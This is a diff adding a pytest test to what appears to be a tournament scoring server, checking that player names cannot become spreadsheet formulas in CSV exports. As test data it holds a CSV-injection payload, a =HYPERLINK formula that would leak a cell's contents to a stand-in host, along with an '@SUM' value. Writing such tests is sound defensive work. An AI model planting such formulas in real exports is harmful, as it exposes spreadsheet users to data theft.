@@ -6,6 +6,8 @@ attack; what every answer carries (security headers); the database file private;
 package."""
 from __future__ import annotations
 
+import csv
+import io
 import os
 import signal
 import stat
@@ -15,6 +17,7 @@ from pathlib import Path
 import httpx
 import pytest
 
+from results import cell_text
 from service.dealing import deal_for
 from service.testing import ServerProcess, raw_request
 
@@ -244,3 +247,30 @@ def test_no_spelling_of_a_credential_parameter_reaches_the_log(tmp_path: Path) -
     log = srv.log_path.read_text()
     assert "GET /api/whoami?" in log, "the access log was written"
     assert secret not in log, [line for line in log.splitlines() if secret in line][:3]
+
+
+def test_names_in_the_csv_exports_cannot_become_formulas(tmp_path: Path) -> None:
+    """A name a seat enters is written to the ranking CSV: one a spreadsheet would run (``=HYPERLINK``, ``@``,
+    ``+``, ``-``) starts with ``'``; ordinary names and negative scores read back as they were."""
+    hostile = {"N": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "S": "@SUM(1+1)"}
+    with ServerProcess(tmp_path, {"regulation": {"spectators": {"delay_s": 0}}}) as srv, \
+            srv.client(srv.token) as d:
+        assert d.post("/api/event", json=MITCHELL_3).status_code == 200
+        assert d.post("/api/tables/1/players", json=hostile).status_code == 200
+        assert d.post("/api/tables/1/players", json={"E": "-Ann", "W": "Bob Li"}).status_code == 200
+        for body in ({"type": "board", "board": 1}, {"type": "contract", "contract": "4S", "declarer": "N"},
+                     {"type": "claim", "seat": "N", "tricks": 8},
+                     {"type": "claim_response", "seat": "E", "accept": True},
+                     {"type": "claim_response", "seat": "W", "accept": True}):
+            assert d.post("/api/tables/1/events", json=body).status_code == 200, body
+        ranking = d.get("/api/exports/csv", params={"part": "ranking"})
+        travellers = d.get("/api/exports/csv")
+    assert ranking.status_code == 200 and travellers.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(ranking.text)))
+    cells = [r["names"] for r in rows] + [v for r in rows for v in r.values()]
+    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells), cells
+    names = {cell_text(r["names"]) for r in rows}
+    assert " - ".join(hostile.values()) in names and "-Ann - Bob Li" in names, names
+    assert any(r["names"].startswith("'=HYPERLINK") for r in rows)
+    scores = [r["score_ns"] for r in csv.DictReader(io.StringIO(travellers.text))]
+    assert scores == ["-100"], scores                                      # a number stays a number
